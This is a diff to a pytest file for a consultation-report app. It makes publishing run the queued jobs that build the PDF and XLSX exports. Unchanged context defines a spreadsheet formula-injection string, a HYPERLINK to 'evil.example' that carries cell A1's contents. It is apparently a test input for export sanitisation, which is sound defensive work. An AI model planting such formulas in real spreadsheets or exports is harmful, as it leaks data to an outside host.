@@ -12,6 +12,7 @@ import pytest
 from consult.answers import exports
 from consult.answers.services import publish_report
 from consult.comments.models import Category, Channel, CommentStatus, HiddenReason
+from consult.jobs.queue import run_due
 
 TITLE = "城市绿化管理办法（征求意见稿）"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
@@ -38,8 +39,10 @@ def answered(make):
 
 
 def _published(answered):
+    """Publish the report and run the jobs that build its PDF and XLSX."""
     c, approver = answered
     publish_report(c, summary="共收到意见5条，采纳1条。", actor=approver)
+    run_due()
     return c
 
 
@@ -150,6 +153,7 @@ def test_downloads_follow_the_newest_revision(client, answered, make):
     assert "发布后才录入的意见" not in client.get(
         f"/consultations/{c.id}/report.csv").data.decode("utf-8-sig")
     publish_report(c, summary="第二版", actor=approver, correction_note="补录一条信函意见。")
+    run_due()
     second = client.get(f"/consultations/{c.id}/report.csv")
     assert "发布后才录入的意见" in second.data.decode("utf-8-sig")
     assert "report-r2.csv" in second.headers["Content-Disposition"]
